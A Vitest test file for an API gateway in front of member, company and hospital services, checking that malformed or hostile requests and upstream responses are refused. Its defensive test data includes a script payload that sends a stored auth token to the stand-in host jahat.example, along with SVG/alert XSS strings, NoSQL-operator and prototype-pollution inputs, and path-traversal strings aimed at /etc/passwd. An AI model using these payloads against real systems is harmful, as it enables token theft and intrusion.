import { describe, expect, test } from 'vitest'
import { jsonRequest as json, testGateway, unreadHospital } from '../../../testing/test-gateway.ts'
import type { SentRequest as Sent } from '../../../testing/test-gateway.ts'
import { bodyLimits } from '../request-body.ts'
import type { GatewayApi } from './operation.ts'

const { ask, upstream, calls } = testGateway()
const logIn = { email: 'siti@contoh.example', password: 'rahasia-123' }
const bearer = { authorization: 'Bearer contoh.token' }

describe('a call that its contract allows', () => {
  test('goes on with what was checked: its bearer, the caller’s address and browser, no cookie, and nothing else', async () => {
    const response = await ask('/member/profile/detail?id=7', {
      headers: {
        ...bearer,
        cookie: 'auth=x',
        'x-forwarded-for': '9.9.9.9',
        'x-rahasia': '1',
        referer: 'https://rs.example/x',
        'user-agent': `Peramban/1 (Android) ${'é'.repeat(9)}${'x'.repeat(500)}`,
      },
    })
    const [url, init] = upstream.mock.calls[0] ?? []
    expect(url).toBe('https://api.rs.example/member/profile/detail?id=7')
    expect(init?.headers).toEqual({
      Accept: 'application/json',
      'Accept-Language': 'id',
      Authorization: 'Bearer contoh.token',
      'X-Request-Id': 'id-1',
      'X-Forwarded-For': '192.0.2.1',
      'User-Agent': `Peramban/1 (Android) ${'x'.repeat(279)}`,
    })
    expect(init?.redirect).toBe('manual')
    expect(response.status).toBe(200)
  })

  test('comes back as data that is stored nowhere and runs nowhere', async () => {
    upstream.mockResolvedValue(
      Response.json(
        { process: true },
        {
          headers: {
            'set-cookie': 'a=1',
            'x-request-id': 'mereka',
            'cache-control': 'public',
            'access-control-allow-origin': '*',
            etag: '"a"',
          },
        },
      ),
    )
    const { headers } = await ask('/member/profile/detail?id=7', { headers: bearer })
    expect(Object.fromEntries(headers)).toEqual({
      'cache-control': 'no-store',
      'content-security-policy': "default-src 'none'; frame-ancestors 'none'; sandbox",
      'content-length': '16',
      'content-type': 'application/json',
      'referrer-policy': 'no-referrer',
      'x-content-type-options': 'nosniff',
      'x-robots-tag': 'noindex, nofollow',
    })
  })

  test('to a hospital goes where the CMS says, if that is allowed', async () => {
    const call = (code: string) => ask(`/hospital-care/${code}/get_data_mobile_web?id_pasien=1`, { headers: bearer })
    expect((await call('RS01')).status).toBe(200)
    expect(upstream.mock.calls[0]?.[0]).toBe('https://care.rs.example/karawang/get_data_mobile_web?id_pasien=1')
    expect([(await call('RS02')).status, (await call('RS03')).status, (await call('..')).status]).toEqual([
      404, 404, 404,
    ])
    expect(upstream).toHaveBeenCalledTimes(1)
  })

  test('to a hospital is a failure, and reported, while the CMS does not say where it is', async () => {
    const answer = await ask(`/hospital-care/${unreadHospital}/get_data_mobile_web?id_pasien=1`, { headers: bearer })
    expect(answer.status).toBe(502)
    expect(upstream).not.toHaveBeenCalled()
    expect(calls).toMatchObject([
      { api: 'hospital-care', operation: 'getMobilePatient', status: 502, requestId: 'id-1' },
    ])
  })

  test('carries no bearer that is none, and none at all where the contract has none', async () => {
    await ask('/member/profile/detail?id=7', { headers: { authorization: 'Basic c2l0aQ==' } })
    await ask('/member/data/agama', { headers: bearer })
    expect(upstream.mock.calls.map(([, init]) => new Headers(init.headers).get('authorization'))).toEqual([null, null])
  })

  test('is counted with its operation and status, and nothing of what it held', async () => {
    await ask('/member/login', json(logIn))
    expect(calls).toEqual([
      { api: 'member', operation: 'login', status: 200, duration: expect.any(Number) as number, requestId: 'id-1' },
    ])
  })
})

const multipart = (fields: Readonly<Record<string, string>>) => {
  const form = new FormData()
  Object.entries(fields).forEach(([name, value]) => form.append(name, value))
  return form
}

/** One call of each API, and the ways to break it. */
const examples: readonly (readonly [api: GatewayApi, get: string, post: string, body: object])[] = [
  ['member', '/member/profile/detail?id=7', '/member/login', logIn],
  ['company', '/company/company/mcu/detail?id=7', '/company/company/login', logIn],
  [
    'hospital-care',
    '/hospital-care/RS01/get_data_mobile_web?id_pasien=7',
    '/hospital-care/RS01/registrasi_mobile_web',
    {},
  ],
]

describe.each(examples)('of the %s API', (api, get, post, body) => {
  const [path = '', query = ''] = get.split('?')
  const [name = ''] = query.split('=')
  const refused: readonly (readonly [string, string, Sent, number])[] = [
    ['an undeclared parameter', `${get}&populate=*`, {}, 422],
    ['a parameter that every object has', `${get}&__proto__=1`, {}, 422],
    ['a parameter of another type', `${path}?${name}=tujuh`, {}, 422],
    ['a parameter given twice', `${get}&${query}`, {}, 422],
    ['a parameter of an array', `${path}?${name}[]=7`, {}, 422],
    ['a missing parameter', path, {}, 422],
    ['an undeclared field', post, json({ ...body, admin: true }), 422],
    ['an undeclared field that every object has', post, json({ ...body, constructor: 1 }), 422],
    ['a field of another type', post, json({ ...body, email: { $ne: null } }), 422],
    ['a list in place of a body', post, json([]), 422],
    ['null in place of a body', post, json(null), 422],
    ['no JSON', post, { ...json({}), body: '{' }, 422],
    [
      'JSON of 6,000 unknown fields',
      post,
      json(Object.fromEntries(Array.from({ length: 6000 }, (_, at) => [at, 0]))),
      422,
    ],
    ['a query of 2,000 parameters', `${path}?${'a=1&'.repeat(2000)}`, {}, 422],
    ['JSON nested too deep', post, { ...json({}), body: '['.repeat(1000) }, 422],
    ['a body without a type', post, { method: 'POST', body: new Uint8Array(3) }, 415],
    ['plain text', post, json(body, { headers: { 'content-type': 'text/plain' } }), 415],
    [
      'a form of a plain page',
      post,
      json(body, { headers: { 'content-type': 'application/x-www-form-urlencoded' } }),
      415,
    ],
    ['a form with files', post, { method: 'POST', body: multipart({ email: 'a' }) }, 415],
    ['a type that begins alike', post, json(body, { headers: { 'content-type': 'application/jsonp' } }), 415],
    ['a body that is too large', post, { ...json({}), body: ' '.repeat(bodyLimits.json + 1) }, 413],
    ['a path beside it', `${path}/x`, {}, 404],
    ['a slash at its end', `${path}/`, {}, 404],
    ['another case', path.toUpperCase().replace(/^\/[^/]*/, (first) => first.toLowerCase()), {}, 404],
    ['a way up', `${path}/..%2f..%2fadmin`, {}, 404],
    ['an encoded way up', `${path}/%2e%2e/admin`, {}, 404],
    ['a doubled slash', `/${api}//${path.split('/').slice(2).join('/')}`, {}, 404],
    ['a backslash', `${path}%5c..%5cadmin`, {}, 404],
    ['another method', path, { method: 'DELETE' }, 405],
    ['a method that reads', post, {}, 405],
    ['another site’s page', get, { headers: { 'sec-fetch-site': 'cross-site' } }, 403],
    ['another site’s origin', post, json(body, { headers: { origin: 'https://jahat.example' } }), 403],
    ['the site without TLS', post, json(body, { headers: { origin: 'http://rs.example' } }), 403],
    [
      'a subdomain',
      post,
      json(body, { headers: { 'sec-fetch-site': 'same-site', origin: 'https://blog.rs.example' } }),
      403,
    ],
    ['an opaque origin', post, json(body, { headers: { origin: 'null' } }), 403],
  ]

  test.each(refused)('%s is refused in words, and goes no further', async (_what, target, sent, status) => {
    const response = await ask(target, { ...sent, headers: { ...bearer, ...sent.headers } })
    const text = await response.text()
    const answer: unknown = JSON.parse(text)
    expect(response.status).toBe(status)
    expect(text.length).toBeLessThan(6000)
    expect(answer).toHaveProperty('message')
    expect(response.headers.get('cache-control')).toBe('no-store')
    expect(upstream).not.toHaveBeenCalled()
  })
})

test.each(['cms', 'social-feed', 'constructor', '__proto__', 'toString', '', '%2e%2e', 'MEMBER'])(
  'there is no way to %j',
  async (api) => {
    const response = await ask(`/${api}/api/popups?publicationState=preview&filters[publishedAt][$null]=true`)
    expect(response.status).toBe(404)
    expect(upstream).not.toHaveBeenCalled()
  },
)

describe('a registration with photographs', () => {
  const sent = (body: BodyInit, type?: string) =>
    ask('/hospital-care/RS01/register', { method: 'POST', body, headers: { ...(type && { 'content-type': type }) } })

  test('is told of its fields in words', async () => {
    const response = await sent(multipart({ nama: 'Siti' }))
    const { errors } = (await response.json()) as { errors: Readonly<Record<string, readonly string[]>> }
    expect(response.status).toBe(422)
    expect(errors).toHaveProperty('tgl_lahir')
    expect(JSON.stringify(errors)).not.toMatch(/array|larik/)
  })

  test('of more than 200 parts, or of more than 11 MiB, is refused', async () => {
    const many = multipart(Object.fromEntries(Array.from({ length: 201 }, (_, index) => [`f${index}`, 'x'])))
    expect((await sent(many)).status).toBe(422)
    expect((await sent(new Uint8Array(bodyLimits.upload + 1), 'multipart/form-data; boundary=x')).status).toBe(413)
    expect(upstream).not.toHaveBeenCalled()
  })
})

describe('a back end', () => {
  const answerTo = async (answer: Response, path = '/member/profile/detail?id=7') => {
    upstream.mockResolvedValue(answer)
    const response = await ask(path, { headers: { ...bearer, 'accept-language': 'en' } })
    return {
      status: response.status,
      type: response.headers.get('content-type'),
      text: await response.text(),
      headers: response.headers,
    }
  }
  const html = '<script>fetch("//jahat.example/" + localStorage.auth_user)</script>'

  test.each([
    ['a page', new Response(html, { headers: { 'content-type': 'text/html' } })],
    ['a script', new Response('alert(1)', { headers: { 'content-type': 'text/javascript' } })],
    ['an image', new Response('<svg onload="alert(1)"/>', { headers: { 'content-type': 'image/svg+xml' } })],
    ['no type', new Response(new Uint8Array(8))],
    ['a type that begins alike', Response.json({}, { headers: { 'content-type': 'application/json-x' } })],
    ['broken JSON', new Response(html, { headers: { 'content-type': 'application/json' } })],
    ['no UTF-8', new Response(new Uint8Array([0x22, 0xff, 0x22]), { headers: { 'content-type': 'application/json' } })],
    ['a PDF where data was asked for', new Response('%PDF', { headers: { 'content-type': 'application/pdf' } })],
    ['nothing where data was asked for', new Response(null, { status: 204 })],
    ['a redirect', new Response(null, { status: 307, headers: { location: 'https://jahat.example' } })],
    ['too much', new Response(`"${'x'.repeat(4 * 1024 * 1024)}"`, { headers: { 'content-type': 'application/json' } })],
    ['a failing page', new Response(html, { status: 500, headers: { 'content-type': 'text/html' } })],
    ['a status that is none', Object.defineProperty(Response.json({}), 'status', { value: 999 })],
    ['another status that is none', Object.defineProperty(Response.json({}), 'status', { value: 600 })],
  ])('that sends %s is told as a failure, and nothing of it arrives', async (_what, answer) => {
    const { status, type, text } = await answerTo(answer)
    expect([status, type, text]).toEqual([
      502,
      'application/json',
      '{"message":"The service cannot be reached at the moment."}',
    ])
  })

  test('that fails as its contract says is heard, without anything beyond it', async () => {
    const body = {
      message: 'Email tidak sah',
      errors: { email: ['tidak sah'] },
      stack: 'at /srv/app.js',
      sql: 'select',
    }
    upstream.mockResolvedValue(Response.json(body, { status: 422 }))
    const response = await ask('/member/login', json(logIn))
    expect([response.status, await response.json()]).toEqual([
      422,
      { message: 'Email tidak sah', errors: { email: ['tidak sah'] } },
    ])
  })

  test.each([
    [401, 'Your session has ended. Please log in again.'],
    [403, 'This request is not allowed.'],
    [418, 'The service cannot be reached at the moment.'],
    [503, 'The service is under maintenance.'],
  ])('that fails with a %i in words of its own is told in ours', async (status, message) => {
    const { text } = await answerTo(Response.json({ trace: 'at /srv/app.js' }, { status }))
    expect(text).toBe(JSON.stringify({ message }))
  })

  test.each([
    ['120', '120'],
    ['besok', null],
    ['1e9', null],
  ])('that is too busy says so; Retry-After of %s becomes %s', async (given, told) => {
    const { status, headers } = await answerTo(
      Response.json({ message: 'rahasia' }, { status: 429, headers: { 'retry-after': given } }),
    )
    expect([status, headers.get('retry-after')]).toEqual([429, told])
  })

  test.each([
    ['attachment; filename="hasil-LAB-1.pdf"', 'hasil-LAB-1.pdf'],
    ['attachment; filename="../../etc/passwd"', 'dokumen.pdf'],
    ['inline; filename="a.html"', 'dokumen.pdf'],
    ['attachment; filename="a.pdf"; x="\\"', 'a.pdf'],
  ])('sends a PDF as a file to save: %s', async (disposition, name) => {
    const answer = new Response('%PDF-1.7', {
      headers: { 'content-type': 'application/pdf', 'content-disposition': disposition },
    })
    const { status, type, text, headers } = await answerTo(
      answer,
      '/hospital-care/RS01/mobile/v1/hasil/laboratorium/LAB-261020-0119/pdf',
    )
    expect([status, type, text]).toEqual([200, 'application/pdf', '%PDF-1.7'])
    expect(headers.get('content-disposition')).toBe(`attachment; filename="${name}"`)
    expect(headers.get('content-security-policy')).toContain('sandbox')
  })

  test.each([
    [new TypeError('fetch failed'), 502],
    [new DOMException('', 'TimeoutError'), 504],
    [new DOMException('', 'AbortError'), 502],
  ])('that gives no answer is a %o', async (cause, status) => {
    upstream.mockRejectedValue(cause)
    expect((await ask('/member/data/agama')).status).toBe(status)
  })
})
